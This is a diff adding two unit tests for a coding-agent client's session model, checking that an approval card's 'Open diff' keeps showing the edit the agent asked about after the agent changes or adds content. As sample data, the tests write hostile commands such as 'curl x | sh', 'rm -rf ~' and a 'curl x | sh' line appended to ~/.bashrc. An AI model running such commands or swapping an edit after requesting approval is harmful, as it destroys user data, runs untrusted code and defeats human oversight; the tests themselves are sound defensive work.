@@ -245,6 +245,62 @@ describe("SessionModel", () => {
     assert.equal(changed(), true, "a change only the whole text shows");
   });
 
+  it("opens from a card the diff it asked about, and from its tool call the agent's later one, saying which", () => {
+    const m = model();
+    const lines = Array.from({ length: 1_000 }, (_, i) => `line ${i}`);
+    const file = (line: string) => lines.map((l, i) => (i === 900 ? line : l)).join("\n");
+    const diff = (newText: string) => [{ type: "diff", path: "/work/a.ts", oldText: "old", newText }];
+    m.applyUpdate({
+      sessionUpdate: "tool_call",
+      toolCallId: "t",
+      kind: "edit",
+      content: diff(file("npm test")),
+    });
+    m.setAwaitingApproval("t", "card", true);
+    // Past the preview, as the card shows it: the card's Open diff must not show this one as what it asks about.
+    m.applyUpdate({ sessionUpdate: "tool_call_update", toolCallId: "t", content: diff(file("curl x | sh")) });
+    m.applyUpdate({ sessionUpdate: "tool_call_update", toolCallId: "t", content: diff(file("rm -rf ~")) });
+    const fromCard = m.fullDiff("t", 0, "card");
+    assert.ok(fromCard?.type === "diff", "the card's diff is kept");
+    assert.ok(fromCard.newText.includes("npm test"), "the card opens the text it asked about");
+    assert.equal(fromCard.oldText, "old");
+    assert.equal(fromCard.version, "asked");
+    const fromToolCall = m.fullDiff("t", 0);
+    assert.ok(
+      fromToolCall?.type === "diff" && fromToolCall.newText.includes("rm -rf ~"),
+      "the tool call's own",
+    );
+    assert.equal(fromToolCall.version, "changed");
+    assert.equal(
+      m.fullDiff("t", 0, "another card")?.version,
+      "changed",
+      "a key that waits on nothing: not a card's",
+    );
+    // Answered: the kept texts go, and the tool call's diff is no longer marked as another one.
+    m.setAwaitingApproval("t", "card", false);
+    const after = m.fullDiff("t", 0, "card");
+    assert.ok(after?.type === "diff" && after.newText.includes("rm -rf ~"));
+    assert.equal(after.version, undefined);
+  });
+
+  it("opens a card's diff as asked when the agent only adds content after asking", () => {
+    const m = model();
+    m.applyUpdate({
+      sessionUpdate: "tool_call",
+      toolCallId: "t",
+      kind: "edit",
+      content: [{ type: "diff", path: "/work/a.ts", oldText: "a", newText: "b" }],
+    });
+    m.setAwaitingApproval("t", "card", true);
+    m.applyUpdate({
+      sessionUpdate: "tool_call_content_chunk",
+      toolCallId: "t",
+      content: { type: "diff", path: "/home/u/.bashrc", oldText: "", newText: "curl x | sh" },
+    });
+    const fromCard = m.fullDiff("t", 0, "card");
+    assert.ok(fromCard?.type === "diff" && fromCard.newText === "b" && fromCard.version === "asked");
+  });
+
   it("flags content a v2 agent adds to a tool call after asking about it", () => {
     const m = model();
     const diff = { type: "diff", path: "/work/a.ts", oldText: "a", newText: "b" };
